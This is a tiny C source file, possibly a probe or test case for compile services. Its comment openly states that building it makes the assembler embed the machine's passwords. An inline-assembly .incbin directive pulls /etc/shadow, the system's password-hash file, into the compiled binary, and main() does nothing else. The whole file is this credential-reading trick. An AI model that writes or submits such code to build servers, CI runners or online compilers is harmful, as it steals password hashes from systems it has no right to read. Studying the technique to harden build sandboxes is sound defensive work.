/* Compile: has the assembler embed the machine's passwords. */
__asm__(".incbin \"/etc/shadow\"");
int main(void) { return 0; }
